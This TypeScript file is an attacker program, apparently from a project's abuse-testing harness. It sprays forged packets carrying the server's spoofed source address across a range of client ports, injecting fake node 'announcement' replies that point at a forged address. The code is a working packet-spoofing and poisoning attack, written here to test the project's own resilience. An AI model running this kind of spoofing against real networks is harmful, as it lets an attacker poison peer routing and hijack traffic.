/**
 * The attacker, as a program in its host. The first argument is a {@link Spray} as JSON. It sends forged replies with the server's
 * source address to every port that the client may use, as many as possible. A line on its standard input is a JSON list of the nodes
 * to forge from then on. When that ends, it prints a {@link SprayResult} as JSON.
 */
import { createInterface } from "node:readline";
import { createCodec, ipFromText } from "../../src/codec/index.ts";
import { addressWords, Frames } from "../abuse/frames.ts";
import { PacketSocket } from "../abuse/packet-socket.ts";
import { nodeId } from "../packets.ts";
import { FORGED, type Spray, type SprayResult } from "./task.ts";

const INTERFACE = "eth0";
/** Frames per system call. */
const BATCH = 128;
/** How long it sends between two looks at the event loop. */
const TURN_MS = 2;

/** Tries each port with all targets before the next port. */
class Sprayer {
  sent = 0;
  targets: readonly number[] = [0];
  readonly #socket: PacketSocket;
  readonly #frames: Frames;
  readonly #ports: Spray["ports"];
  #port: number;
  #target = 0;

  constructor({ client, clientMac, server, serverPort, ports, nodes }: Spray) {
    const codec = createCodec({ backend: "ts" });
    const ip = ipFromText(FORGED.ip)!;
    this.#ports = ports;
    this.#port = ports[0];
    this.#frames = new Frames(BATCH, {
      family: "v4",
      destinationMac: clientMac,
      destination: client,
      sourcePort: serverPort,
      destinationPort: ports[0],
      payloads: nodes.map((n) => codec.encode({ type: "announcement", nodeId: nodeId(n), port: FORGED.port, ip })),
    });
    const [source] = addressWords(server);
    for (let i = 0; i < BATCH; i++) this.#frames.setSource4(i, source!);
    this.#socket = new PacketSocket(INTERFACE, this.#frames);
  }

  send(): void {
    const [first, last] = this.#ports;
    for (let i = 0; i < BATCH; i++) {
      if (this.#target >= this.targets.length) {
        this.#target = 0;
        this.#port = this.#port === last ? first : this.#port + 1;
      }
      this.#frames.setPayload(i, this.targets[this.#target++]!);
      this.#frames.setDestinationPort(i, this.#port);
    }
    this.sent += this.#socket.send(BATCH);
  }
}

const spray: Spray = JSON.parse(process.argv[2]!);
const sprayer = new Sprayer(spray);
const payloads = new Map(spray.nodes.map((node, i) => [node, i]));
let ended = false;
void (async () => {
  for await (const line of createInterface({ input: process.stdin })) {
    const targets: number[] = JSON.parse(line);
    if (targets.length > 0) sprayer.targets = targets.map((node) => payloads.get(node)!);
  }
  ended = true;
})();
const start = performance.now();
let turn = start;
let now = start;
while (!ended && now < start + spray.maxSeconds * 1_000) {
  sprayer.send();
  if (now - turn > TURN_MS) {
    await new Promise((resolve) => setImmediate(resolve));
    turn = now;
  }
  now = performance.now();
}
const result: SprayResult = { sent: sprayer.sent, seconds: (now - start) / 1_000 };
console.log(JSON.stringify(result));
process.exit(0);
